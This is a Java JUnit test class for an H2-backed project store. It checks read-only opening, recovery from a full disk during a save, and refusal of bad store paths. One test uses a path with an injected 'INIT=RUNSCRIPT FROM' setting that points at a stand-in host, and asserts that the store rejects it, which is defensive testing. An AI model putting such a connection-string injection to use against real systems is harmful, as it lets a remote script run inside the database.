package dev.quorum.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A read-only store directory, a disk that fills up during a save, and bad store paths. (A store locked by
 * another process is in {@link TwoProcessTest}; the same conditions on a real tmpfs and a read-only mount
 * are exercised by scripts/kill-harness.sh --bad-conditions, see docs/reliability.md.)
 */
class BadConditionsTest {

    @TempDir
    Path dir;

    @AfterEach
    void freeTheDisk() {
        FullDiskFileSystem.freeSpace();
    }

    private static H2ProjectRepository openOnFullableDisk(Path dir) throws StoreException {
        FullDiskFileSystem.install();
        return H2ProjectRepository.open(TestStores.at(dir), new H2ProjectRepository.Options(Clock.systemUTC(),
                H2ProjectRepository.DEFAULT_COALESCE_WINDOW, false, FullDiskFileSystem.SCHEME));
    }

    @Test
    void aReadOnlyStoreOpensReadOnlyListsAndRefusesChangesClearly() throws Exception {
        UUID id;
        try (H2ProjectRepository repo = TestStores.open(dir)) {
            id = repo.create("Shop", TestStores.save(TestStores.yaml("Shop", "1"))).project().id();
        }
        long before = Files.getLastModifiedTime(dir.resolve("quorum.mv.db")).toMillis();
        try (H2ProjectRepository repo = TestStores.openReadOnly(dir)) {
            assertThat(repo.readOnly()).isTrue();
            assertThat(repo.info().readOnly()).isTrue();
            assertThat(repo.list()).extracting(ProjectSummary::name).containsExactly("Shop");
            assertThat(repo.current(id).yaml()).isEqualTo(TestStores.yaml("Shop", "1"));
            assertThat(repo.verify().problems()).isEmpty();
            assertThatThrownBy(() -> repo.save(id, 1, TestStores.save("x"))).isInstanceOf(StoreReadOnlyException.class)
                    .hasMessage("Cannot save project " + id + ": the store at " + dir
                            + " is open read-only because its directory or file cannot be written");
            assertThatThrownBy(() -> repo.delete(id)).isInstanceOf(StoreReadOnlyException.class);
            assertThatThrownBy(() -> repo.create("New", TestStores.save("x"))).isInstanceOf(StoreReadOnlyException.class);
            assertThat(dir.resolve("quorum.lock.db")).doesNotExist();
        }
        assertThat(Files.getLastModifiedTime(dir.resolve("quorum.mv.db")).toMillis()).isEqualTo(before);
    }

    @Test
    void noStoreCanBeCreatedInAReadOnlyPlace() throws Exception {
        Files.createDirectories(dir.resolve("empty"));
        assertThatThrownBy(() -> TestStores.openReadOnly(dir.resolve("empty"))).isInstanceOf(StoreReadOnlyException.class)
                .hasMessage("There is no store at " + dir.resolve("empty") + " and the directory cannot be written, so none"
                        + " can be created; choose another with --store DIR");
    }

    @Test
    void aFullDiskDuringASaveGivesAClearErrorAndThePreviousRevisionStaysIntact() throws Exception {
        UUID id;
        String big = TestStores.yaml("Shop", "x".repeat(200_000));
        try (H2ProjectRepository repo = openOnFullableDisk(dir)) {
            SaveResult r = repo.create("Shop", TestStores.save(TestStores.yaml("Shop", "saved before the disk filled")));
            id = r.project().id();
            FullDiskFileSystem.fillUpAfter(4096);
            assertThatThrownBy(() -> repo.save(id, 1, TestStores.save(big))).isInstanceOf(StoreException.class)
                    .hasMessageContaining("is full").hasMessageNotContaining("\n");
            // The store stays usable or says clearly that it closed; either way nothing half-written shows.
            FullDiskFileSystem.freeSpace();
        }
        try (H2ProjectRepository repo = TestStores.open(dir)) {
            assertThat(repo.current(id).yaml()).isEqualTo(TestStores.yaml("Shop", "saved before the disk filled"));
            assertThat(repo.find(id).revisionCount()).isEqualTo(1);
            assertThat(repo.verify().problems()).isEmpty();
            SaveResult after = repo.save(id, repo.find(id).version(), TestStores.save(big));
            assertThat(after.revision().number()).isEqualTo(2);
        }
    }

    @Test
    void storePathsThatH2WouldReadAsSettingsAreRefused() {
        assertThatThrownBy(() -> StoreLocation.of(dir + "/x;INIT=RUNSCRIPT FROM 'http://evil'", "--store"))
                .isInstanceOf(StoreException.class).hasMessageStartingWith("Cannot use store directory '" + dir
                        + "/x;INIT=RUNSCRIPT FROM 'http://evil'' (from --store): the path contains ';', which H2 reads as the"
                        + " start of connection settings");
        assertThatThrownBy(() -> StoreLocation.of("bad\nname", "QUORUM_HOME")).hasMessageContaining("control character")
                .hasMessageContaining("'bad?name'");
        assertThatThrownBy(() -> StoreLocation.of(" ", "--store")).hasMessageContaining("the path is empty");
    }
}
